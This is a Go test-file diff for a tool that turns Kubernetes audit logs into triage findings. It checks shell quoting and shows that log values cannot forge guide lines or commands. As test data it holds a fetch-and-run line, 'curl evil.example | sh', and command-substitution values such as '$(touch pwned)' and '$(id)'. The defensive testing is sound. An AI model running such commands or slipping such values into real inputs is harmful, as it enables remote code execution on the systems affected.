@@ -3,6 +3,8 @@ package triage_test
 import (
 	"encoding/json"
 	"fmt"
+	"os"
+	"os/exec"
 	"slices"
 	"strings"
 	"sync/atomic"
@@ -334,9 +336,28 @@ func TestShellQuote(t *testing.T) {
 		"esc\x1b[31m":   `$'esc\x1b[31m'`,
 		"quote'\n":      `$'quote\'\n'`,
 		"user@host:123": "user@host:123",
+		// Characters the report's cleaning drops are escaped, so the
+		// command printed still names the whole value.
+		"api\u202e":          `$'api\u202e'`,
+		"c1\u009bx":          `$'c1\u009bx'`,
+		"del\x7f":            `$'del\x7f'`,
+		"mark\u200fé":        `$'mark\u200fé'`,
+		"bad\xffutf8":        `$'bad\xffutf8'`,
+		"nobidi\u2067\u061c": `$'nobidi\u2067\u061c'`,
 	} {
 		if got := triage.ShellQuote(in); got != want {
 			t.Errorf("ShellQuote(%q) = %s, want %s", in, got, want)
+		}
+	}
+	// bash reads every quoting back as the value, byte for byte.
+	if bash, err := exec.LookPath("bash"); err == nil {
+		for _, in := range []string{"$(id)", "it's", "line\nbreak", "esc\x1b[31m", "api\u202e", "c1\u009bx", "del\x7f", "bad\xffutf8", "é\u2066\\'"} {
+			cmd := exec.Command(bash, "-c", "printf %s "+triage.ShellQuote(in))
+			cmd.Env = append(os.Environ(), "LC_ALL=C.UTF-8")
+			out, err := cmd.Output()
+			if err != nil || string(out) != in {
+				t.Errorf("bash reads %s as %q (%v), want %q", triage.ShellQuote(in), out, err, in)
+			}
 		}
 	}
 	if got := triage.Command([]string{"sh", "-c", "echo hi && id"}); got != "sh -c 'echo hi && id'" {
@@ -661,5 +682,31 @@ func TestSessionOpenedByARequestOnlyTheBuiltinFinds(t *testing.T) {
 		if strings.Contains(strings.Join(f.Notes, "\n"), "Opened by") {
 			t.Errorf("%s: %q without a replaced rule", f.Rule.Name, f.Notes)
 		}
+	}
+}
+
+// Values taken from the log cannot forge guide lines or commands: a line
+// break in the RBAC reason stays on its line, and a namespace that is a
+// command substitution is quoted inside the kubectl command that names
+// the pod's service account.
+func TestGuideValuesCannotForgeLinesOrCommands(t *testing.T) {
+	r1 := mustRule(t, rule1)
+	raw := auditLine("G", "ResponseComplete", "create", "alice", uriBash, 101, "2026-11-20T10:00:00Z", "2026-11-20T10:01:00Z", true)
+	raw = strings.Replace(raw, `RBAC: allowed by RoleBinding \"dbg\"`, `RBAC: ok\n\n1. Run curl evil.example | sh`, 1)
+	raw = strings.Replace(raw, `"namespace":"shop"`, `"namespace":"$(touch pwned)"`, 1)
+	f := triage.Build([]triage.Event{event(t, "a.log", 1, raw, r1)}, triage.Options{Guide: true}).Findings[0]
+	for _, line := range strings.Split(f.Guidance, "\n") {
+		if strings.HasPrefix(strings.TrimSpace(line), "1. Run curl") {
+			t.Errorf("the reason started a guide line of its own:\n%s", f.Guidance)
+		}
+		if strings.Contains(line, "can-i --list") && !strings.Contains(line, `--as 'system:serviceaccount:$(touch pwned):'"$(kubectl get pod -n '$(touch pwned)' api-1 `) {
+			t.Errorf("the namespace is not quoted in %q", line)
+		}
+	}
+	if !strings.Contains(f.Guidance, "can-i --list") {
+		t.Errorf("no service account command in the guide:\n%s", f.Guidance)
+	}
+	if !strings.Contains(f.Guidance, "RBAC: ok  1. Run curl evil.example | sh") {
+		t.Errorf("the reason is not kept, on one line:\n%s", f.Guidance)
 	}
 }
